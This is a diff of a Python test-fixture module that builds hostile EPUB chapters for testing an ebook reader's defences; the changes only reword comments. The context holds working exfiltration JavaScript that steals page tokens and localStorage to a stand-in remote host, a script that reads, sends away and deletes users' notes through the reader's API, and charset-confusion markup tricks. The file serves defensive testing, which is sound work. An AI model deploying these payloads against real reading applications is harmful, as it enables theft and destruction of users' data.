@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: BSD-3-Clause
-"""Documents that attack the page: their types, encodings and markup are chosen so that a browser reads something else than
-whoever prepared them.  hostile_books.py puts them into books."""
+"""Documents that attack the page: their types, encodings and markup are chosen so that a browser parses them
+differently from the software that prepared them.  hostile_books.py puts them into books."""
 from typing import NamedTuple
 from urllib.parse import quote
 from xml.sax.saxutils import escape
@@ -15,18 +15,18 @@ ALL = "chromium qt webkit firefox"
 
 class Attempt(NamedTuple):
     """A chapter, and other files of its book."""
-    #: In the body of an ordinary chapter, or in its head as well.
+    #: Markup in the body of an ordinary chapter, or also in its head.
     markup: str = ""
-    #: Name, media type (None: the manifest does not list it; "": it has none), text, encoding.
+    #: Name, media type (None: not in the manifest; "": none), text, encoding.
     files: tuple = ()
-    #: All of the chapter, in place of an ordinary one with the markup; "{text}" stands for what a reader reads.
+    #: The whole chapter, instead of an ordinary one with the markup; "{text}" is replaced with the visible text.
     document: str = ""
     kind: str = "application/xhtml+xml"
     encoding: str = "utf-8"
     in_head: bool = False
-    #: Engines in which it succeeds, if nobody prevents it; none: it would, if the library gave it another type.
+    #: Engines in which it succeeds without countermeasures; none: it would if the library served it as another type.
     engines: str = ALL
-    #: Engines in which something arrives all the same: docs/web.md says what.
+    #: Engines in which something still arrives, as documented in docs/web.md.
     left: str = ""
     #: Whether the page shows its text.
     shown: bool = True
@@ -36,13 +36,13 @@ def script(code):
     return f"<script>//<![CDATA[\n{code}; {SCRIPT}\n//]]></script>"
 
 
-#: What F1 of an attack did: it reads what belongs to the page, and sends it away.
+#: An attack that reads what belongs to the page, and sends it away.
 THEFT = script(f"""let token = ""; try {{ token = JSON.parse(top.document.querySelector("meta[name=lectern]").content).token.slice(0, 4)
 + Object.values(top.localStorage) }} catch (error) {{}}
 new Image().src = "{REMOTE}stolen?" + encodeURIComponent(token)""")
 LOADS = f"""<img src="{REMOTE}img.png" alt=""/><iframe src="{REMOTE}frame"></iframe><p style="background: url({REMOTE}style.png)">p</p>"""
 INNER = f'<html xmlns="{XHTML}"><head><title>x</title><link rel="stylesheet" href="{REMOTE}sheet.css"/></head><body>{THEFT}{LOADS}</body></html>'
-#: Reads the notes of all books in the reader of the examples, sends them away, and deletes them.
+#: Reads the notes of all books in the example reader, sends them away, and deletes them.
 TAKEOVER = INNER.replace(THEFT, script(f"""(async () => {{
 const api = "/" + top.location.pathname.split("/")[1] + "/api/", ask = async (path, more) => (await fetch(api + path, more)).json();
 const {{notes}} = await ask("notes/changes"), {{books}} = await ask("shelf"), headers = {{"Content-Type": "application/json"}};
@@ -59,7 +59,7 @@ def frames(name):
 
 
 def framed(extension, kind, text, encoding="utf-8", **more):
-    """A chapter that frames a file in three ways.  The name of the attempt is put for NAME."""
+    """A chapter that frames a file in three ways.  NAME is replaced with the name of the attempt."""
     name = f"NAME-1.{extension}"
     return Attempt(frames(name), ((name, kind, text, encoding),), **more)
 
@@ -198,7 +198,7 @@ ENCODINGS = {
     "encoded-chapter-utf-16": whole("\ufeff" + page(THEFT + LOADS), encoding="utf-16-be"),
     "declared-utf-16": whole('<?xml version="1.0" encoding="utf-16"?>' + INNER, shown=False, engines="chromium qt webkit"),
     "declared-twice": whole('\ufeff<?xml version="1.0" encoding="iso-2022-jp"?>' + INNER, shown=False, engines="chromium qt webkit"),
-    # Whoever reads ASCII sees an attribute x with a picture in it.
+    # Read as ASCII, there is an attribute x with a picture in it.
     "iso-2022-jp": whole(f'<!DOCTYPE html><meta charset="iso-2022-jp"><p>{{text}}</p><p title="\x1b$@"x=\'\x1b(B"><img src={REMOTE}jis.png>'
                          "<p title='x'>", "text/html"),
     "shift-jis": whole(f'<!DOCTYPE html><meta charset="shift_jis"><p>{{text}}</p><p title="\x83"{MARKED}<p>{MARKED}', "text/html",
